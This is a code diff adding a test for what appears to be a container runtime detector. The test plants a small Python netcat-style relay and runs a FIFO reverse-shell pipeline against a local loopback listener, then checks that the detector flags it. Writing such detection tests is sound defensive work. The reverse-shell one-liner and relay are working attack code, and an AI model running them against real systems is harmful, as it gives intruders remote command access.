@@ -96,3 +96,48 @@ def test_relay_started_shell(task_env: TaskEnv, tmp_path: Path) -> None:
     time.sleep(1)
     assert sidecar.stop() == 0
     assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
+
+
+NC_RELAY = """#!/usr/bin/python3
+import socket, sys, threading
+args = [a for a in sys.argv[1:] if not a.startswith("-")]
+s = socket.create_connection((args[0], int(args[1])))
+if "-z" in sys.argv:
+    sys.exit(0)
+def pump():
+    while data := s.recv(4096):
+        sys.stdout.buffer.write(data)
+        sys.stdout.buffer.flush()
+threading.Thread(target=pump, daemon=True).start()
+while data := sys.stdin.buffer.read1(4096):
+    s.sendall(data)
+"""
+
+
+def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: TaskEnv, tmp_path: Path) -> None:
+    """`cat f | sh -i | nc host port > f`: no socket on the shell's stdio, the relay beside it holds it."""
+    for c in ("app", "worker"):
+        nc = task_env.path_in(c, "/tmp/nc")
+        nc.write_text(NC_RELAY)
+        nc.chmod(0o755)
+    sidecar = task_env.start_detecting(tmp_path)
+    with listener("127.0.0.9") as (srv, port):
+        # benign: a port check beside a shell reading a pipe
+        task_env.run("worker", ["sh", "-c", f"echo 'sleep 1' | sh & /tmp/nc -z 127.0.0.9 {port}; wait"])
+        srv.accept()[0].close()
+        pipeline = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /tmp/nc 127.0.0.9 {port} > /tmp/f"
+        task_env.run("app", ["sh", "-c", pipeline], wait=False)
+        conn, _ = srv.accept()
+        with conn:
+            conn.sendall(b"sleep 3\n")
+            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
+            conn.sendall(b"exit\n")
+    Finding.model_validate(f)
+    context = f["service"]["runtimeDetails"]["context"]
+    assert context["relayProcess"] == "nc" and str(port) in context["relayCommandLine"]
+    proc = f["service"]["runtimeDetails"]["process"]
+    assert proc["name"] == "sh" and "-i" in proc["commandLine"]
+    assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
+    time.sleep(1)
+    assert sidecar.stop() == 0
+    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
